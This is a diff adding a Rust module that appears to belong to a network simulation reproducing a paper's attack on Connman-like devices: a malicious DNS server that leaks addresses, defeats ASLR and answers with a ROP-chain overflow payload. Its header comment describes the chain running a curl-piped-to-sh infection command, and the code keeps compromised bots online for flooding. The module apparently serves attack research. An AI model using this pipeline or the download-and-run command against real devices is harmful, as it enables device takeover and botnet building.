@@ -1,0 +1,135 @@
+//! The malicious DNS server exploiting Connman-like Devs.
+//!
+//! Devs running `connmand` resolve against this server (the paper manually
+//! points Devs at it, acknowledging real attackers would hijack DNS). Under
+//! the default leak+rebase strategy the exchange per device is:
+//!
+//! 1. Dev sends a normal DNS query → server answers with a leak-probe
+//!    record.
+//! 2. The daemon's leak primitive fires and the Dev emits a
+//!    `leak-<addr>.probe` query → server computes the ASLR slide, builds a
+//!    rebased ROP chain, and answers with the exploit record.
+//! 3. The chain runs `execlp("sh","-c","curl -s …/infect.sh | sh")`.
+
+use crate::exploit::ExploitForge;
+use firmware::{parse_leak_query_name, RTYPE_LEAK_PROBE};
+use netsim::{Application, Ctx, Packet, Payload};
+use protocols::{DnsMessage, DnsRecord, DNS_PORT};
+use std::collections::HashSet;
+use std::net::IpAddr;
+
+/// The malicious DNS server application.
+#[derive(Debug)]
+pub struct MaliciousDnsServer {
+    forge: ExploitForge,
+    /// Devices already sent a final exploit (avoid endless re-exploitation).
+    exploited: HashSet<IpAddr>,
+    /// Normal queries answered with probes.
+    pub probes_sent: u64,
+    /// Leak replies received.
+    pub leaks_received: u64,
+    /// Exploit payloads sent.
+    pub exploits_sent: u64,
+}
+
+impl MaliciousDnsServer {
+    /// Creates the server around an exploit forge.
+    pub fn new(forge: ExploitForge) -> Self {
+        MaliciousDnsServer {
+            forge,
+            exploited: HashSet::new(),
+            probes_sent: 0,
+            leaks_received: 0,
+            exploits_sent: 0,
+        }
+    }
+
+    /// Clears the exploited mark for `ip`, so the next query restarts the
+    /// exploit exchange. The attacker operator calls this when a device it
+    /// believed compromised never registered with the C&C (e.g. the exploit
+    /// packet was lost, or the device churned away mid-infection).
+    pub fn forget(&mut self, ip: IpAddr) {
+        self.exploited.remove(&ip);
+    }
+
+    /// Devices currently marked as exploited.
+    pub fn exploited_count(&self) -> usize {
+        self.exploited.len()
+    }
+
+    fn respond(&self, ctx: &mut Ctx<'_>, to: std::net::SocketAddr, msg: DnsMessage) {
+        let bytes = msg.wire_size();
+        let _ = ctx.udp_send(DNS_PORT, to, Payload::new(msg), bytes);
+    }
+
+    fn exploit_record(&self, payload: Vec<u8>) -> DnsRecord {
+        // TXT-style record smuggling the overflow bytes.
+        DnsRecord::raw("cdn.update.local", 16, payload)
+    }
+}
+
+impl Application for MaliciousDnsServer {
+    fn name(&self) -> &str {
+        "malicious-dns"
+    }
+
+    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
+        ctx.udp_bind(DNS_PORT)
+            .expect("DNS port is free on the attacker node");
+    }
+
+    fn on_packet(&mut self, ctx: &mut Ctx<'_>, packet: &Packet) {
+        let Some(DnsMessage::Query { id, name }) = packet.payload.get::<DnsMessage>() else {
+            return;
+        };
+        let (id, name) = (*id, name.clone());
+        let src = packet.src;
+
+        if let Some(leaked) = parse_leak_query_name(&name) {
+            // Stage 2: rebase and fire.
+            self.leaks_received += 1;
+            if self.exploited.contains(&src.ip()) {
+                return;
+            }
+            if let Ok(payload) = self.forge.rebased_payload(leaked) {
+                self.exploits_sent += 1;
+                self.exploited.insert(src.ip());
+                let answer = DnsMessage::Response {
+                    id,
+                    name,
+                    answers: vec![self.exploit_record(payload)],
+                };
+                self.respond(ctx, src, answer);
+            }
+            return;
+        }
+
+        // Stage 1: a normal query from the daemon's periodic resolution.
+        if self.exploited.contains(&src.ip()) {
+            // Already compromised: answer honestly so the device keeps
+            // functioning (bots must stay online to flood).
+            let answer = DnsMessage::Response {
+                id,
+                name: name.clone(),
+                answers: vec![DnsRecord::a(name, [93, 184, 216, 34])],
+            };
+            self.respond(ctx, src, answer);
+            return;
+        }
+        let answers = if self.forge.needs_leak() {
+            self.probes_sent += 1;
+            vec![DnsRecord::raw("probe.local", RTYPE_LEAK_PROBE, Vec::new())]
+        } else {
+            // One-shot strategies fire immediately.
+            match self.forge.initial_payload() {
+                Ok(payload) => {
+                    self.exploits_sent += 1;
+                    self.exploited.insert(src.ip());
+                    vec![self.exploit_record(payload)]
+                }
+                Err(_) => return,
+            }
+        };
+        self.respond(ctx, src, DnsMessage::Response { id, name, answers });
+    }
+}
